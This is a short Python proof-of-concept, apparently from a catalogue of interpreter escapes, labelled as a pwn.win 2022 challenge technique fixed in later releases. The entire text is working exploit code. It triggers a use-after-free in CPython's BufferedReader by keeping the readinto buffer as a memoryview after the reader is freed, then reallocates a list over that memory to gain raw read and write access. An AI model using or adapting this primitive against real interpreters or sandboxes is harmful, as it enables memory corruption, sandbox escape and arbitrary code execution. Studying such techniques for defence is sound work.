# technique: the raw object is a subclass of FileIO over standard input
# goal: code
# source: pwn.win 2022
# mended: later releases
import io
import sys


class Raw(type(sys.stdin.buffer.raw)):
    def readinto(self, buffer):
        global view
        view = buffer


reader = io.BufferedReader(Raw(0, closefd=False))
reader.read(1)
del reader
view = view.cast('P')
box = [None] * len(view)
if view[0] == id(None):
    print('ESCAPED a view of a list', flush=True)
